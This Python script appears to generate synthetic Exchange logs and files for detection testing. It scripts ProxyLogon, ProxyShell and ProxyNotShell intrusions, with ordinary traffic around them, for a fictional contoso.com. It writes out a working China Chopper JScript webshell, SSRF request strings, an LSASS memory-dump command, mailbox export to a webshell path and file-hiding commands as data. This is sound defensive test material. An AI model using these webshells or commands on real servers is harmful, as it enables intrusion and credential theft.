#!/usr/bin/env python3
"""Generates examples/exchange-proxylogon/, exchange-proxyshell/ and exchange-proxynotshell/ (and the -disk tree).

A fictional two-server Exchange 2016 CU19 organisation (contoso.com; EXCH01 and EXCH02, each with the front end on
W3SVC1 and the back end on W3SVC2) with ordinary traffic and scripted intrusions built from published IOCs.
Deterministic: a fixed seed and no clock, so running it again rewrites the same bytes.
    python3 examples/tools/gen_exchange_incidents.py           # writes the examples
    python3 examples/tools/gen_exchange_incidents.py --list    # also prints each scripted line: file, line, note
"""
import json
import os
import random
import sys
from datetime import datetime, timedelta

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from exchange_logs import (HTTPPROXY_FIELDS, ECP_FIELDS, OAB_FIELDS, csv_row, header, iso, write)

EXAMPLES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
HOST = "mail.contoso.com"
SERVERS = {"EXCH01": "10.1.10.11", "EXCH02": "10.1.10.12"}
BUILD = ("15", "1", "2106", "2")  # Exchange 2016 CU19
VERSION = "15.01.2106.002"
IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) "
              "sc-status sc-substatus sc-win32-status time-taken").split()
UA_EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36 Edg/88.0.705.81"
UA_OUTLOOK = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"
UA_IOS = "iOS/14.4 (18D52) dataaccessd/1.0"
UA_PROBE = "AMProbe/Local/ClientAccess"
USERS = [("CONTOSO\\j.smith", "10.1.20.57"), ("CONTOSO\\a.garcia", "10.1.20.61"), ("CONTOSO\\m.chen", "10.1.21.14"),
         ("CONTOSO\\l.okafor", "10.1.21.90"), ("CONTOSO\\p.novak", "10.1.22.33"), ("CONTOSO\\s.ahmed", "10.1.22.48")]
SCRIPTED = []  # (example, file, line, note)


def plus(text):
    return text.replace(" ", "+")


class Example:
    """Collects the lines of every log of one example, then writes them sorted by time."""

    def __init__(self, name, day):
        self.name, self.day = name, day
        self.iis, self.proxy, self.ecp, self.oab, self.events = {}, {}, {}, {}, {}

    def path(self, *parts):
        return os.path.join(EXAMPLES, self.name, *parts)

    # IIS: server, site ('W3SVC1' front end, 'W3SVC2' back end)
    def iis_line(self, at, server, site, method, stem, query="", user="", ip="", ua=UA_EDGE, status=200, note=None,
                 referer=""):
        port = "443" if site == "W3SVC1" else "444"
        values = [at.strftime("%Y-%m-%d"), at.strftime("%H:%M:%S"), SERVERS[server], method, stem, query or "-", port,
                  user or "-", ip, plus(ua) or "-", referer or "-", str(status), "0", "0", str(random.randint(3, 400))]
        self.iis.setdefault((server, site), []).append((at, " ".join(values), note))

    def proxy_row(self, at, server, folder, stem, query="", user="", ip="", ua=UA_EDGE, status=200, method="GET",
                  anchor="", target="EXCH02", note=None):
        protocol = {"Owa": "Owa", "Ecp": "Ecp", "Autodiscover": "Autodiscover", "Ews": "Ews", "Mapi": "Mapi"}[folder]
        anchor = anchor or ("Sid~S-1-5-21-1004336348-1177238915-682003330-" + str(1100 + len(user)) if user else "")
        values = dict(DateTime=iso(at), RequestId="%08x-%04x-4%03x-a%03x-%012x" % tuple(random.getrandbits(b) for b in (32, 16, 12, 12, 48)),
                      MajorVersion=BUILD[0], MinorVersion=BUILD[1], BuildVersion=BUILD[2], RevisionVersion=BUILD[3],
                      Protocol=protocol, UrlHost=HOST, UrlStem=stem, AuthenticationType="FBA" if user else "",
                      IsAuthenticated="true" if user else "false", AuthenticatedUser=user, AnchorMailbox=anchor,
                      UserAgent=ua, ClientIpAddress=ip, ServerHostName=server, HttpStatus=status, BackEndStatus=status,
                      Method=method, ProxyAction="Proxy", TargetServer=target + ".contoso.com",
                      TargetServerVersion="15.01.2106.000", RoutingType="IntraForest", RequestBytes=random.randint(200, 3000),
                      ResponseBytes=random.randint(300, 40000), TotalRequestTime=random.randint(5, 300), UrlQuery=query,
                      GenericInfo="BeginRequest=%s;CorrelationID=<empty>;EndRequest=%s;" % (iso(at), iso(at + timedelta(milliseconds=40))),
                      RoutingStatus="CafeV1")
        self.proxy.setdefault((server, folder), []).append((at, csv_row(HTTPPROXY_FIELDS, values), note))

    def ecp_row(self, at, server, cmd, url, note=None):
        data = "S:TIME=%d;S:SID=%s;S:CMD=%s;S:REQID=;S:URL=%s;S:REFERRER=;S:EX=;S:RS=0;S:BLD=15.1.2106.2" % (
            random.randint(5, 1500), "5e2a4d3c-9b0c-4d2e-9a3f-%012x" % random.getrandbits(48), cmd, url)
        self.ecp.setdefault(server, []).append((at, csv_row(ECP_FIELDS, dict(TimeStamp=iso(at), ServerName=server, EventId="ECP.Request", EventData=data)), note))

    def oab_row(self, at, server, level, message, note=None):
        self.oab.setdefault(server, []).append((at, csv_row(OAB_FIELDS, dict(Timestamp=iso(at), Level=level, ThreadId=random.randint(8, 60), Source="OABGenerator", Message=message)), note))

    def event(self, at, server, channel, provider, event_id, data, level=4, note=None):
        record = {"Event": {"System": {"Provider": {"#attributes": {"Name": provider}}, "EventID": event_id, "Level": level,
                                       "TimeCreated": {"#attributes": {"SystemTime": at.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"}},
                                       "Channel": channel, "Computer": server + ".contoso.com"},
                            "EventData": data}}
        self.events.setdefault(server, []).append((at, json.dumps(record, separators=(",", ":")), note))

    def process(self, at, server, image, command, parent, parent_command, user="NT AUTHORITY\\SYSTEM", note=None):
        self.event(at, server, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1,
                   {"UtcTime": at.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], "ProcessId": random.randint(1000, 9000), "Image": image,
                    "CommandLine": command, "CurrentDirectory": "C:\\Windows\\system32\\", "User": user,
                    "IntegrityLevel": "System", "ParentImage": parent, "ParentCommandLine": parent_command}, note=note)

    def file_created(self, at, server, image, target, note=None):
        self.event(at, server, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 11,
                   {"UtcTime": at.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], "Image": image, "TargetFilename": target}, note=note)

    def management(self, at, server, cmdlet, parameters, note=None):
        self.event(at, server, "MSExchange Management", "MSExchange CmdletLogs", 1,
                   {"Data": [cmdlet, parameters, "contoso.com/Users/Administrator", "S-1-5-21-1004336348-1177238915-682003330-500",
                             "S-1-5-21-1004336348-1177238915-682003330-500", "Remote-PowerShell-Unknown", str(random.randint(1000, 9000)), "", ""]}, note=note)

    def save(self):
        day = self.day.strftime("%y%m%d")
        stamp = self.day.strftime("%Y%m%d")
        date = iso(self.day)
        for (server, site), lines in self.iis.items():
            head = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
                    "#Date: " + self.day.strftime("%Y-%m-%d %H:%M:%S"), "#Fields: " + " ".join(IIS_FIELDS)]
            self.emit(self.path(server, "inetpub", "logs", "LogFiles", site, "u_ex" + day + ".log"), head, lines)
        for (server, folder), lines in self.proxy.items():
            self.emit(self.path(server, "Logging", "HttpProxy", folder, "HttpProxy_" + stamp + "02-1.LOG"),
                      header("HttpProxy Logs", VERSION, date, HTTPPROXY_FIELDS), lines)
        for server, lines in self.ecp.items():
            self.emit(self.path(server, "Logging", "ECP", "Server", "ECPServer" + stamp + "-1.LOG"),
                      header("ECP Server Log", VERSION, date, ECP_FIELDS), lines)
        for server, lines in self.oab.items():
            self.emit(self.path(server, "Logging", "OABGeneratorLog", "OABGeneratorLog_" + stamp + "-1.LOG"),
                      header("OABGenerator Log", VERSION, date, OAB_FIELDS), lines)
        for server, lines in self.events.items():
            self.emit(self.path(server, "EventLogs", "events.jsonl"), [], lines, crlf=False)

    def emit(self, path, head, lines, crlf=True):
        lines = sorted(lines, key=lambda item: item[0])
        out = list(head) + [text for _, text, _ in lines]
        if crlf:
            write(path, out)
        else:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w", encoding="utf-8", newline="\n") as handle:
                handle.write("\n".join(out) + "\n")
        for index, (_, _, note) in enumerate(lines):
            if note:
                SCRIPTED.append((self.name, os.path.relpath(path, os.path.join(EXAMPLES, self.name)).replace(os.sep, "/"), len(head) + index + 1, note))


def ordinary(example, start, hours, density=1.0):
    """Ordinary working traffic on both servers: OWA, ECP, EWS, MAPI, Autodiscover, health probes and host noise."""
    minutes = int(hours * 60)
    for minute in range(minutes):
        at = start + timedelta(minutes=minute, seconds=random.randint(0, 59))
        if random.random() > density:
            continue
        user, ip = random.choice(USERS)
        front = random.choice(["EXCH01", "EXCH02"])
        back = random.choice(["EXCH01", "EXCH02"])
        kind = random.choice(["owa", "owa", "ecp", "mapi", "autod", "ews", "probe"])
        if kind == "owa":
            stem = random.choice(["/owa/", "/owa/service.svc", "/owa/ev.owa2", "/owa/auth/logon.aspx"])
            method = "GET" if stem in ("/owa/", "/owa/auth/logon.aspx") else "POST"
            query = "action=GetItem&EP=1&ID=-%d&AC=1" % random.randint(10, 99) if stem == "/owa/service.svc" else ""
            example.iis_line(at, front, "W3SVC1", method, stem, query, user, ip)
            example.iis_line(at, back, "W3SVC2", method, stem, query, user, SERVERS[front])
            example.proxy_row(at, front, "Owa", stem, "?" + query if query else "", user, ip, method=method, target=back)
        elif kind == "ecp":
            example.iis_line(at, front, "W3SVC1", "GET", "/ecp/PersonalSettings/HomePage.aspx", "showhelp=false", user, ip)
            example.proxy_row(at, front, "Ecp", "/ecp/PersonalSettings/HomePage.aspx", "?showhelp=false", user, ip, target=back)
            example.ecp_row(at, back, "Get-InboxRule", "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=%x" % random.getrandbits(40))
        elif kind == "mapi":
            example.iis_line(at, front, "W3SVC1", "POST", "/mapi/emsmdb/", "MailboxId=%x@contoso.com" % random.getrandbits(64), user, ip, UA_OUTLOOK)
            example.proxy_row(at, front, "Mapi", "/mapi/emsmdb/", "?MailboxId=%x@contoso.com" % random.getrandbits(64), user, ip, UA_OUTLOOK, method="POST", target=back)
        elif kind == "autod":
            example.iis_line(at, front, "W3SVC1", "POST", "/autodiscover/autodiscover.xml", "", user, ip, UA_OUTLOOK)
            example.proxy_row(at, front, "Autodiscover", "/autodiscover/autodiscover.xml", "", user, ip, UA_OUTLOOK, method="POST", target=back)
            example.iis_line(at, front, "W3SVC1", "GET", "/autodiscover/autodiscover.json", "Email=%s%%40contoso.com&Protocol=ActiveSync&RedirectCount=1" % user.split("\\")[1], user, ip, UA_IOS)
        elif kind == "ews":
            example.iis_line(at, front, "W3SVC1", "POST", "/EWS/Exchange.asmx", "", user, ip, UA_IOS)
            example.proxy_row(at, front, "Ews", "/EWS/Exchange.asmx", "", user, ip, UA_IOS, method="POST", target=back)
        else:
            # Managed availability probes anchored by ServerInfo~…/autodiscover and ~localhost: must not alert.
            example.proxy_row(at, front, "Autodiscover", "/autodiscover/autodiscover.xml", "", "", "127.0.0.1", UA_PROBE,
                              anchor="ServerInfo~%s.contoso.com/autodiscover/autodiscover.xml" % back, method="POST", target=back)
            example.proxy_row(at, front, "Ecp", "/ecp/", "", "", "::1", UA_PROBE, anchor="ServerInfo~localhost:444/ecp/#", target=front)
        if minute % 7 == 0:
            server = random.choice(["EXCH01", "EXCH02"])
            example.process(at, server, "C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                            "C:\\Windows\\System32\\cmd.exe", "cmd /c C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeHealthManager.exe")
            example.event(at, server, "Application", "MSExchange ADAccess", 2080,
                          {"Data": ["w3wp.exe", str(random.randint(1000, 9000)), "Process w3wp.exe (MSExchangeOWAAppPool) topology discovery completed."]})
        if minute % 29 == 0:
            example.management(at, "EXCH02", "Get-Mailbox", "-ResultSize 'Unlimited'")
            example.oab_row(at, "EXCH02", "Information", "OABGenerator started generation of 'Default Offline Address Book'")


W3WP_ECP = ('c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeECPAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm4b2c -h "C:\\inetpub\\temp\\apppools\\MSExchangeECPAppPool\\MSExchangeECPAppPool.config" -w "" -m 0')
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
ATTACKER = "104.140.114.110"
SHELL_URL = 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>'


def proxylogon():
    random.seed(20210303)
    day = datetime(2021, 3, 3)
    example = Example("exchange-proxylogon", day)
    ordinary(example, day + timedelta(hours=1), 3)
    t = day + timedelta(hours=2, minutes=14, seconds=7)
    # 1. CVE-2021-26855: SSRF through the front end of EXCH01 to the back end of EXCH02
    example.iis_line(t, "EXCH01", "W3SVC1", "POST", "/ecp/y.js", "", "", ATTACKER, "ExchangeServicesClient/0.0.0.0", 200, "26855 IOC request POST /ecp/y.js")
    example.proxy_row(t, "EXCH01", "Ecp", "/ecp/y.js", "", "", ATTACKER, "ExchangeServicesClient/0.0.0.0", 200, "POST",
                      "ServerInfo~EXCH02.contoso.com:444/autodiscover/autodiscover.xml?#", note="26855 SSRF discovers the backend (autodiscover anchor)")
    t += timedelta(seconds=3)
    example.iis_line(t, "EXCH01", "W3SVC1", "POST", "/owa/auth/x.js", "", "", ATTACKER, "python-requests/2.25.1", 200, "26855 IOC request POST /owa/auth/x.js")
    example.proxy_row(t, "EXCH01", "Owa", "/owa/auth/x.js", "", "", ATTACKER, "python-requests/2.25.1", 200, "POST",
                      "ServerInfo~EXCH02.contoso.com:444/mapi/emsmdb/?#", note="26855 SSRF to MAPI for the legacy DN")
    t += timedelta(seconds=4)
    example.proxy_row(t, "EXCH01", "Ecp", "/ecp/y.js", "", "", ATTACKER, "ExchangeServicesClient/0.0.0.0", 241, "POST",
                      "ServerInfo~EXCH02.contoso.com:444/ecp/proxyLogon.ecp#", note="26855 SSRF to proxyLogon.ecp (ECP session)")
    # 2. CVE-2021-27065: OAB virtual directory URL set to a script, then reset to write it to disk
    t += timedelta(seconds=40)
    example.proxy_row(t, "EXCH01", "Ecp", "/ecp/y.js", "", "", ATTACKER, "ExchangeServicesClient/0.0.0.0", 200, "POST",
                      "ServerInfo~EXCH02.contoso.com:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Zx3kbd&schema=OABVirtualDirectory#", note="27065 set ExternalUrl through the SSRF")
    example.ecp_row(t, "EXCH02", "Set-OabVirtualDirectory.ExternalUrl='%s'.Identity='0c2a5d3e-6b1f-4a7c-9e2d-1f3b5a7c9e0d'" % SHELL_URL,
                    "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Zx3kbd", note="27065 ECP Server log: script in ExternalUrl")
    example.management(t, "EXCH02", "Set-OabVirtualDirectory", "-Identity 'EXCH02\\OAB (Default Web Site)' -ExternalUrl '%s'" % SHELL_URL, note="27065 MSExchange Management event 1")
    t += timedelta(seconds=6)
    example.proxy_row(t, "EXCH01", "Ecp", "/ecp/y.js", "", "", ATTACKER, "ExchangeServicesClient/0.0.0.0", 200, "POST",
                      "ServerInfo~EXCH02.contoso.com:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Zx3kbd&schema=ResetOABVirtualDirectory#", note="27065 ResetOABVirtualDirectory answered 200")
    example.iis_line(t, "EXCH02", "W3SVC2", "POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=ResetOABVirtualDirectory&msExchEcpCanary=Zx3kbd", "CONTOSO\\administrator", SERVERS["EXCH01"], "ExchangeServicesClient/0.0.0.0", 200)
    # The reset writes the configuration through a UNC path (\\127.0.0.1\c$), so the SMB server (System) creates the file.
    example.file_created(t + timedelta(milliseconds=300), "EXCH02", "System", "C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx", note="27065 webshell created through the UNC path (System)")
    # 3. CVE-2021-26858 (OAB generator path) and CVE-2021-26857 (UM deserialisation) on EXCH02
    t += timedelta(minutes=2)
    example.oab_row(t, "EXCH02", "Error", "Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\one1.aspx' needs to be removed", note="26858 temporary file outside the OAB folder")
    example.file_created(t, "EXCH02", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\one1.aspx", note="26858 UMWorkerProcess writes one1.aspx")
    t += timedelta(minutes=1)
    example.event(t, "EXCH02", "Application", "MSExchange Unified Messaging", 1032,
                  {"Data": ["UMCallRouter", "System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCommon.UMCallData'."]}, level=2, note="26857 UM InvalidCastException")
    example.process(t + timedelta(seconds=1), "EXCH02", CMD, "cmd /c whoami > C:\\ProgramData\\w.txt",
                    "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe", '"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe" 1', note="26857 UMWorkerProcess child")
    # 4. Webshell use and HAFNIUM post-exploitation on EXCH02
    t += timedelta(minutes=5)
    example.iis_line(t, "EXCH02", "W3SVC1", "POST", "/aspnet_client/discover.aspx", "", "", ATTACKER, "antSword/v2.1", 200, "China Chopper webshell POST answered 200")
    example.process(t, "EXCH02", CMD, 'cmd /c "cd /d "C:\\inetpub\\wwwroot\\aspnet_client"&whoami&echo [S]&cd&echo [E]"', W3WP, W3WP_ECP, note="China Chopper whoami echo")
    t += timedelta(seconds=30)
    example.iis_line(t, "EXCH02", "W3SVC1", "POST", "/aspnet_client/discover.aspx", "", "", ATTACKER, "antSword/v2.1", 200, "webshell POST (ipconfig)")
    example.process(t, "EXCH02", CMD, 'cmd /c "cd /d "C:\\inetpub\\wwwroot\\aspnet_client"&ipconfig&echo [S]&cd&echo [E]"', W3WP, W3WP_ECP, note="China Chopper ipconfig echo")
    t += timedelta(minutes=3)
    example.process(t, "EXCH02", "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 C:\\inetpub\\wwwroot\\aspnet_client\\lsass.dmp full", CMD, "cmd /c", note="LSASS dump with comsvcs MiniDump")
    t += timedelta(minutes=4)
    example.process(t, "EXCH02", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell -c \"Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn;Get-Mailbox -ResultSize 20 | %{New-MailboxExportRequest -Mailbox $_.Alias -FilePath \\\\EXCH02\\c$\\ProgramData\\pst\\$($_.Alias).pst}\"", CMD, "cmd /c", note="Exchange snap-in and mailbox export")
    example.management(t + timedelta(seconds=20), "EXCH02", "New-MailboxExportRequest", "-Mailbox 'j.smith' -FilePath '\\\\EXCH02\\c$\\ProgramData\\pst\\j.smith.pst'")
    t += timedelta(minutes=9)
    example.process(t, "EXCH02", "C:\\ProgramData\\7z.exe", "C:\\ProgramData\\7z.exe a -t7z -pP@ssw0rd2021 C:\\ProgramData\\pst\\it.7z C:\\ProgramData\\pst\\*.pst", CMD, "cmd /c", note="7-Zip staging in ProgramData")
    t += timedelta(minutes=2)
    example.process(t, "EXCH02", "C:\\Windows\\System32\\attrib.exe", "attrib +h +s +r C:\\inetpub\\wwwroot\\aspnet_client\\*.aspx", CMD, "cmd /c", note="attrib hides the webshells")
    example.save()


def proxyshell():
    random.seed(20210813)
    day = datetime(2021, 8, 13)
    example = Example("exchange-proxyshell", day)
    ordinary(example, day + timedelta(hours=1), 1.5, 0.6)
    ip = "203.0.113.77"  # documentation range: invented attacker
    t = day + timedelta(hours=1, minutes=42, seconds=5)
    ssrf = "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"
    example.iis_line(t, "EXCH01", "W3SVC1", "GET", "/autodiscover/autodiscover.json", ssrf, "", ip, "python-requests/2.26.0", 401, "ProxyShell probe answered 401")
    t += timedelta(seconds=9)
    example.iis_line(t, "EXCH02", "W3SVC1", "POST", "/autodiscover/autodiscover.json", ssrf, "", ip, "python-requests/2.26.0", 200, "ProxyShell SSRF to NSPI answered 200")
    example.proxy_row(t, "EXCH02", "Autodiscover", "/autodiscover/autodiscover.json", "?" + ssrf, "", ip, "python-requests/2.26.0", 200, "POST",
                      "SMTP:evil@evil.corp", note="ProxyShell SSRF in HttpProxy (webserver names)")
    t += timedelta(seconds=30)
    ps = "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBRhZG1pbmlzdHJhdG9yQGNvbnRvc28uY29t&Email=autodiscover/autodiscover.json%3F@evil.corp"
    example.iis_line(t, "EXCH02", "W3SVC1", "POST", "/autodiscover/autodiscover.json", ps, "", ip, "python-requests/2.26.0", 200, "ProxyShell remote PowerShell with X-Rps-CAT")
    t += timedelta(seconds=5)
    example.management(t, "EXCH02", "New-ManagementRoleAssignment", "-Role 'Mailbox Import Export' -User 'administrator@contoso.com'", note="Mailbox Import Export role granted")
    t += timedelta(seconds=40)
    example.management(t, "EXCH02", "New-MailboxExportRequest", "-Mailbox 'administrator@contoso.com' -IncludeFolders '#Drafts#' -ContentFilter 'Subject -eq ''hgfhx''' -FilePath '\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\hgfhx.aspx'", note="mailbox exported as hgfhx.aspx")
    example.file_created(t + timedelta(seconds=12), "EXCH02", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe", "C:\\inetpub\\wwwroot\\aspnet_client\\hgfhx.aspx", note="mailbox replication writes the aspx")
    t += timedelta(minutes=2)
    example.iis_line(t, "EXCH02", "W3SVC1", "POST", "/aspnet_client/hgfhx.aspx", "", "", ip, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", 200, "webshell hgfhx.aspx answered 200")
    example.process(t, "EXCH02", CMD, 'cmd /c "cd /d "C:\\inetpub\\wwwroot\\aspnet_client"&whoami&echo [S]&cd&echo [E]"', W3WP, W3WP_ECP, note="webshell command echo")
    example.save()


def proxynotshell():
    random.seed(20221220)
    day = datetime(2022, 12, 20)
    example = Example("exchange-proxynotshell", day)
    ordinary(example, day + timedelta(hours=1), 1.5, 0.6)
    ip = "203.0.113.84"  # documentation range: invented attacker
    user = "CONTOSO\\svc_print"
    t = day + timedelta(hours=1, minutes=17, seconds=2)
    q = "@evil.corp/Powershell?serializationLevel=Full;ExchClientVer=15.1.2507.6;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.592&Email=autodiscover/autodiscover.json%3F@evil.corp"
    example.iis_line(t, "EXCH01", "W3SVC1", "POST", "/autodiscover/autodiscover.json", q, user, ip, "python-requests/2.28.1", 404, "ProxyNotShell blocked by the URL rewrite mitigation (404)")
    t += timedelta(seconds=20)
    owassrf = "/owa/mastermailbox%40outlook.com/powershell"
    chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36"
    example.iis_line(t, "EXCH01", "W3SVC1", "POST", owassrf, "", user, ip, chrome, 200, "OWASSRF POST to /owa/…%40…/powershell")
    example.proxy_row(t, "EXCH01", "Owa", owassrf, "", user, ip, chrome, 200, "POST", note="OWASSRF in HttpProxy Owa")
    t += timedelta(minutes=30)
    example.iis_line(t, "EXCH02", "W3SVC1", "POST", "/autodiscover/autodiscover.json", q, user, ip, "python-requests/2.28.1", 200, "ProxyNotShell on unmitigated EXCH02 (200)")
    example.proxy_row(t, "EXCH02", "Autodiscover", "/autodiscover/autodiscover.json", "?" + q, user, ip, "python-requests/2.28.1", 200, "POST", note="ProxyNotShell in HttpProxy Autodiscover")
    t += timedelta(seconds=15)
    example.file_created(t, "EXCH02", W3WP, "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\owafonts.aspx", note="w3wp writes owafonts.aspx")
    t += timedelta(minutes=1)
    example.iis_line(t, "EXCH02", "W3SVC1", "POST", "/owa/auth/owafonts.aspx", "", "", ip, chrome, 200, "webshell owafonts.aspx answered 200")
    example.save()


def disk():
    root = os.path.join(EXAMPLES, "exchange-proxylogon-disk")
    files = {
        "inetpub/wwwroot/aspnet_client/discover.aspx": '<%@ Page Language="Jscript"%><%eval(Request.Item["orange"],"unsafe");%>\n',
        "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/one1.aspx":
            "Name                            : OAB (Default Web Site)\nPollInterval                    : 480\nOfflineAddressBooks             :\n"
            "RequireSSL                      : True\nBasicAuthentication             : False\nWindowsAuthentication           : True\n"
            "ExternalUrl                     : " + SHELL_URL + "\nAdminDisplayName                :\n",
        "inetpub/wwwroot/aspnet_client/system_web/4_0_30319/WebUIValidation.js": "// ASP.NET client-side validation (placeholder for an ordinary file)\nvar Page_ValidationVer = \"125\";\n",
        "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/logon.aspx": "<%@ Page Language=\"C#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\n<!-- placeholder for the genuine OWA logon page -->\n",
    }
    for relative, text in files.items():
        path = os.path.join(root, *relative.split("/"))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8", newline="\r\n") as handle:
            handle.write(text)


if __name__ == "__main__":
    proxylogon()
    proxyshell()
    proxynotshell()
    disk()
    if "--list" in sys.argv:
        for name, path, line, note in SCRIPTED:
            print("%s\t%s:%d\t%s" % (name, path, line, note))
